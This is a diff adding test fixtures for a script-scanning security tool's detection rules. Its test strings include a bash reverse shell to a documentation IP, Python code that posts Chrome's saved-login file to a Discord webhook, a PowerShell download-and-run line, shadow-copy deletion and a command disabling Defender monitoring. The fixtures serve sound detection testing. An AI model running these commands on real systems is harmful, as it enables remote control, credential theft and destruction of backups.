@@ -1,12 +1,16 @@
+mod decoding;
+
 use crate::forge::text::{phar, utf16};
-use crate::forge::{Example, Specimen, case, fired, png, type_of};
+use crate::forge::{Example, Specimen, case, fired, pe, png, type_of};
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
 use sheepdip::model::report::Verdict;
 
 pub const SPECIMENS: &[Specimen] = &[
     ("powershell", || {
         b"param([string]$Name)\n$items = Get-ChildItem -Path $Name\nforeach ($item in $items) {\n    Write-Host $item.Name\n}\n".to_vec()
     }),
-    ("encoded-script", || b"#@~^DgAAAA==\\ko$K6,J4J4bJqAQAAA==^#~@".to_vec()),
+    ("encoded-script", || b"#@~^DgAAAA==\\ko$K6,JC\x7FV^GJqAQAAA==^#~@".to_vec()),
     ("vbscript", || {
         b"Dim shell\nSet shell = CreateObject(\"WScript.Shell\")\nWScript.Echo \"hello\"\nWScript.Quit\n".to_vec()
     }),
@@ -56,10 +60,79 @@ pub const EXAMPLES: &[Example] = &[
     },
     Example {
         rule: "scripts.encoded",
-        fires: || case("a.vbe", "#@~^DgAAAA==\\ko$K6,J4J4bJqAQAAA==^#~@"),
+        fires: || case("a.vbe", "#@~^DgAAAA==\\ko$K6,JC\x7FV^GJqAQAAA==^#~@"),
         silent: || case("a.vbs", "Dim a\nSet a = CreateObject(\"WScript.Shell\")\nWScript.Echo \"x\"\n"),
     },
+    Example {
+        rule: "scripts.fetches-in-plain-sight",
+        fires: || case("a.ps1", INSTALLER),
+        silent: || case("a.ps1", "$page = Invoke-WebRequest -Uri 'https://x.invalid/'\nWrite-Host $page.StatusCode\n"),
+    },
+    Example {
+        rule: "scripts.masked-orders",
+        fires: || case("a.ps1", "$a = ('{1}{0}'-f'X','IE')\n& $a 'Get-Date'\nWrite-Host 1\n"),
+        silent: || case("a.ps1", "$a = ('{1}{0}'-f'b','a')\nWrite-Host $a\nInvoke-Expression 'Get-Date'\n"),
+    },
+    Example {
+        rule: "scripts.switches-off-protection",
+        fires: || case("a.ps1", "Write-Host 1\nSet-MpPreference -DisableRealtimeMonitoring $true\n"),
+        silent: || {
+            case(
+                "a.ps1",
+                "# Set-MpPreference -DisableRealtimeMonitoring $true\nGet-MpPreference\nSet-MpPreference -DisableRealtimeMonitoring $false\n",
+            )
+        },
+    },
+    Example {
+        rule: "scripts.destroys-backups",
+        fires: || case("a.bat", "@echo off\r\nvssadmin delete shadows /all /quiet\r\n"),
+        silent: || {
+            case(
+                "a.bat",
+                "@echo off\r\nvssadmin list shadows\r\nrem vssadmin delete shadows /all\r\necho vssadmin delete shadows\r\n",
+            )
+        },
+    },
+    Example {
+        rule: "scripts.hands-over-control",
+        fires: || case("a.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
+        silent: || case("a.sh", "#!/bin/bash\n(echo > /dev/tcp/192.0.2.1/80) && echo open\n"),
+    },
+    Example {
+        rule: "scripts.steals",
+        fires: || {
+            case(
+                "a.py",
+                "import os\nimport requests\npath = os.environ['LOCALAPPDATA'] + '/Google/Chrome/User Data/Default/Login Data'\nrequests.post('https://discord.com/api/webhooks/1', data=open(path).read())\n",
+            )
+        },
+        silent: || {
+            case(
+                "a.py",
+                "import os\nimport requests\nrequests.post('https://x.invalid/', data={'login': 'data'})\nprint(os.name)\n",
+            )
+        },
+    },
+    Example {
+        rule: "scripts.carries-program",
+        fires: || {
+            case("a.ps1", format!("$b = '{}'\nWrite-Host $b.Length\n$c = Get-Date\n", STANDARD.encode(pe::minimal())))
+        },
+        silent: || {
+            case("a.ps1", format!("$b = '{}'\nWrite-Host $b.Length\n$c = Get-Date\n", STANDARD.encode(png::plain())))
+        },
+    },
+    Example {
+        rule: "scripts.does",
+        fires: || case("a.ps1", "Start-Process notepad.exe\nWrite-Host 1\n$c = Get-Date\n"),
+        silent: || case("a.ps1", "Write-Host 1\n$c = Get-Date\n"),
+    },
 ];
+
+/// A script that installs a program, as an administrator writes it.
+const INSTALLER: &str = "param([string]$Url)\nWrite-Host \"Downloading $Url\"\nInvoke-WebRequest -Uri $Url -OutFile \
+                         setup.msi\nWrite-Host 'Installing'\n$p = Start-Process msiexec -ArgumentList '/i setup.msi' \
+                         -Wait -PassThru\nif ($p.ExitCode -ne 0) { throw 'failed' }\nWrite-Host 'Done'\n";
 
 const VBS: &str = "On Error Resume Next\r\nDim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\nWScript.Echo \"x\"\r\n";
 
@@ -211,4 +284,38 @@ fn code_in_plain_behind_a_word_of_python_is_not_hidden_code() {
     assert!(told("powershell.exe -nop -ec JABhAD0AMQA7AGUAYwBoAG8AIAAkAGEA"));
     assert!(told("powershell.exe -ec \"JABhAD0AMQA7AGUAYwBoAG8AIAAkAGEA\""));
     assert!(told("powershell.exe -nop -ec %code%"));
+}
+
+#[test]
+fn a_text_that_its_name_starts_as_a_script_is_judged_as_one() {
+    let order = "iex(irm https://x.invalid/a)";
+    for (name, dangerous) in [("a.ps1", true), ("a.ps1 ", true), ("a.md", false)] {
+        let found = fired(&case(name, format!("{order}\n")).examine()).contains(&"scripts.download-and-run");
+        assert_eq!(found, dangerous, "{name}");
+    }
+    let told = |text: &str| fired(&case("a.bat", text).examine());
+    assert!(told("vssadmin delete shadows /all\r\n").contains(&"scripts.destroys-backups"));
+    assert!(!told("Ask IT before you delete shadows.\r\n").contains(&"scripts.destroys-backups"));
+}
+
+#[test]
+fn editors_that_colour_the_words_of_other_languages_are_no_loaders() {
+    let module = "define(\"mode/powershell\",[\"require\"],function(e,t,n){\"use strict\";var r=\"Get-Date|Invoke-Expression|\
+                  Invoke-WebRequest|New-Object|Start-Process|Write-Host|Start-BitsTransfer|param|foreach\";t.mode=r;});\n";
+    let report = case("mode-powershell.js", module).examine();
+    assert_eq!(type_of(&report), "javascript");
+    assert!(report.judgement.verdict < Verdict::Dangerous, "{:?}", fired(&report));
+}
+
+#[test]
+fn what_a_script_does_is_told_with_the_line_and_its_place() {
+    let text = "Write-Host 'hello'\nStart-Process notepad.exe\nRegister-ScheduledTask -TaskName a -Action $b\n";
+    let report = case("a.ps1", text).examine();
+    let told: Vec<_> = report.findings.iter().filter(|f| f.rule.id == "scripts.does").collect();
+    assert_eq!(told.len(), 2, "{told:?}");
+    for (finding, line) in told.iter().zip(["Register-ScheduledTask -TaskName a", "Start-Process notepad.exe"]) {
+        assert!(finding.proof().contains(line), "{}", finding.proof());
+        let place = usize::try_from(finding.span.unwrap().offset).unwrap();
+        assert!(text[place..].starts_with(&line[..8]), "{place}");
+    }
 }
